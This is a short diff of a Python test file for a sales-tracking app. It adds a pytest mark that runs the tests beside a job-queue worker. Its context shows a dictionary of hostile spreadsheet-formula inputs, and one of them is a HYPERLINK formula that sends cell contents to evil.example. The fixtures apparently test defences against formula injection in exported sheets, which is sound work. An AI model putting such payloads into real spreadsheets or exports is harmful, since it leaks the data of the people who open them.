@@ -20,6 +20,9 @@ from salestrack.models import Project
 from tests.archive_helpers import approve, file_sheet, make_people
 from tests.conftest import make_config
 
+# Final approvals are sealed by the job queue: its worker runs beside the app, as in production.
+pytestmark = pytest.mark.usefixtures("worker")
+
 HOSTILE = {
     "project": '=HYPERLINK("http://evil.example/?leak="&A2,"点击查看")',
     "customer": "+SUM(1,2)精密机械有限公司",
